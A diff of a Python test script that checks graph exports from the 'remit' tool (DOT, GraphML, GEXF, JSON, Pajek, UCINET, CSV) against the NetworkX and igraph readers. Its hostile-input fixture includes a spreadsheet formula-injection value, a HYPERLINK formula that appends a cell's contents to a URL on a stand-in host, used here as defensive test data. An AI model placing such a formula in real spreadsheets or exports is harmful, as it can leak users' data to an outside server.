@@ -1,9 +1,12 @@
-"""dot.py PROGRAM ROOT: what `remit export` writes, read by NetworkX's two readers and, by way of
-Graphviz's gv2gml, by igraph: nodes, degrees, weights and labels."""
+"""export.py PROGRAM ROOT: what `remit export` writes, read by NetworkX and igraph: nodes, degrees,
+weights and labels of DOT (by NetworkX's two readers, and through Graphviz's gv2gml), GraphML, GEXF and
+JSON; rows and columns of Pajek, UCINET, contexts and CSV."""
 
 import collections
 import contextlib
+import csv
 import html
+import io
 import itertools
 import json
 import subprocess
@@ -72,10 +75,36 @@ def of_igraph(dot):
     return nodes, links
 
 
-def readings(dot):
+def of_graph(graph):
+    return dict(graph.nodes(data=True)), list(graph.edges(data=True))
+
+
+def of_igraph_graphml(text):
+    with file_of(text, ".graphml") as name:
+        graph = igraph.Graph.Read_GraphML(name)
+    nodes = {vertex["id"]: vertex.attributes() for vertex in graph.vs}
+    links = [(graph.vs[e.source]["id"], graph.vs[e.target]["id"], e.attributes())
+             for e in graph.es]
+    return nodes, links
+
+
+def readings(arguments):
+    """What each reader makes of what is exported with these arguments."""
+    dot, graphml, gexf, node_link = (remit("export", "--quiet", *arguments, "--format", each)
+                                     for each in ("dot", "graphml", "gexf", "json"))
     yield "nx_agraph", of_networkx(nx.nx_agraph.read_dot, dot)
     yield "nx_pydot", of_networkx(nx.nx_pydot.read_dot, dot)
     yield "igraph", of_igraph(dot)
+    yield "GraphML, NetworkX", of_graph(nx.parse_graphml(graphml))
+    yield "GraphML, igraph", of_igraph_graphml(graphml)
+    yield "GEXF, NetworkX", of_graph(read_gexf(gexf))
+    yield "JSON, NetworkX", of_graph(nx.node_link_graph(json.loads(node_link)))
+
+
+def read_gexf(text):
+    """NetworkX 2.8 knows the format up to 1.2; what differs in 1.3 is not used here."""
+    old = text.replace("http://gexf.net/1.3", "http://www.gexf.net/1.2draft")
+    return nx.read_gexf(io.BytesIO(old.replace('version="1.3"', 'version="1.2"').encode()))
 
 
 def expect(where, what, actual, wanted):
@@ -83,10 +112,10 @@ def expect(where, what, actual, wanted):
         sys.exit(f"{where}: {what}: {actual} instead of {wanted}")
 
 
-def check(where, dot, labels, weights, weight):
+def check(where, arguments, labels, weights, weight):
     """Nodes with these labels, links with these weights; where a weight is None it may be any."""
     degrees = collections.Counter(itertools.chain.from_iterable(weights))
-    for reader, (nodes, links) in readings(dot):
+    for reader, (nodes, links) in readings(arguments):
         at = f"{where}, {reader}"
         expect(at, "nodes", sorted(nodes), sorted(labels))
         expect(at, "links", len(links), len(weights))
@@ -98,17 +127,58 @@ def check(where, dot, labels, weights, weight):
                 expect(at, f"{weight} of {key}", float(data[weight]), weights[key])
         for name, label in labels.items():
             # gv2gml writes a label that is a number as one.
-            actual = plain(nodes[name]["label"], reader)
+            actual = nodes[name]["label"]
+            if reader in ("nx_agraph", "nx_pydot", "igraph"):
+                actual = plain(actual, reader)
             if reader == "igraph" and label.isdigit():
                 label = str(int(label))
             expect(at, f"label of {name}", actual, label)
 
 
+def check_two_modes(where, arguments, departments, measures, links):
+    """Of full names: a link is (department, measure)."""
+    pajek, ucinet, context, rows = (remit("export", "--quiet", *arguments, "--format", each)
+                                    for each in ("pajek", "ucinet", "cxt", "csv"))
+    quoteless = {name: name.replace('"', "'") for name in departments + measures}
+    wanted = sorted((quoteless[a], quoteless[b]) for a, b in links)
+
+    with file_of(pajek, ".net") as name:
+        graph = igraph.Graph.Read_Pajek(name)
+    expect(where, "Pajek's vertices", graph.vs["id"] if "id" in graph.vs.attributes() else
+           graph.vs["name"], [quoteless[each] for each in departments + measures])
+    expect(where, "Pajek's modes", graph.vs["type"],
+           [False] * len(departments) + [True] * len(measures))
+    names = [quoteless[each] for each in departments + measures]
+    expect(where, "Pajek's links", sorted((names[e.source], names[e.target]) for e in graph.es),
+           wanted)
+
+    head, _, data = ucinet.partition("data:\n")
+    expect(where, "UCINET's size", head.split("\n")[0],
+           f"dl nr={len(departments)} nc={len(measures)} format=edgelist2")
+    read = [tuple(line.split('"')[1:4:2]) for line in data.splitlines()]
+    expect(where, "UCINET's links", sorted(read), wanted)
+
+    lines = context.split("\n")
+    expect(where, "the context's size", lines[:5],
+           ["B", "", str(len(measures)), str(len(departments)), ""])
+    objects = lines[5:5 + len(measures)]
+    attributes = lines[5 + len(measures):][:len(departments)]
+    crosses = lines[5 + len(measures) + len(departments):][:len(measures)]
+    read = [(attributes[d], objects[m]) for m, row in enumerate(crosses)
+            for d, mark in enumerate(row) if mark == "X"]
+    expect(where, "the context's links", sorted(read), wanted)
+
+    read = [(row["department"], row["measure"]) for row in csv.DictReader(io.StringIO(rows))]
+    expect(where, "the links of CSV", sorted(read), sorted(links))
+
+
 def hostile():
     with file_of(HOSTILE, ".yaml") as name:
-        whole, without_regions, projection = (
-            remit("export", "--quiet", name, "--lang", "en", *options)
-            for options in ([], ["--no-regions"], ["--projection"]))
+        hostile_of([name, "--lang", "en"])
+
+
+def hostile_of(whole):
+    without_regions, projection = whole + ["--no-regions"], whole + ["--projection"]
     bodies = {"department-a": "A\\N", "department-b": "<B>bold</B>", "department-c": "007"}
     measures = {"measure-1": '=HYPERLINK("http://x.example/?"&A1,"go")',
                 "measure-2": "R&D; &lt; &amp; ]; {", "measure-3": "2.5", "measure-4": "..."}
@@ -125,6 +195,11 @@ def hostile():
     check("hostile projection", projection, bodies,
           {("department-a", "department-b"): 2.0, ("department-a", "department-c"): 1.0,
            ("department-b", "department-c"): 1.0}, "weight")
+    names = {"a": 'A "quoted" \\', "b": "<B>bold</B>", "c": "007"}
+    titles = list(measures.values())
+    check_two_modes("hostile", whole, [names[each] for each in "abc"], titles,
+                    [(names[body], titles[int(measure) - 1])
+                     for body, measure in ("a1", "b1", "b2", "a2", "c2", "b3", "c4")])
 
 
 def shipped(language):
@@ -149,12 +224,13 @@ def shipped(language):
         expect(language, f"title of {name}", plain(node["title"]), title)
         measures[name] = plain(node["label"])
         expect(language, f"{name} is labelled by a number", measures[name].isdigit(), False)
-    check(f"third batch, {language}", dot, measures | bodies, shares, "fractional")
-    check(f"third batch, {language}, projection",
-          remit("export", data, "--lang", language, "--projection"), bodies, shared, "weight")
+    check(f"third batch, {language}", [data, "--lang", language, "--no-regions"],
+          measures | bodies, shares, "fractional")
+    check(f"third batch, {language}, projection", [data, "--lang", language, "--projection"],
+          bodies, shared, "weight")
 
 
 hostile()
 for each_language in ("zh-Hans", "en"):
     shipped(each_language)
-print("NetworkX's two readers and igraph read what is exported")
+print("NetworkX and igraph read what is exported")
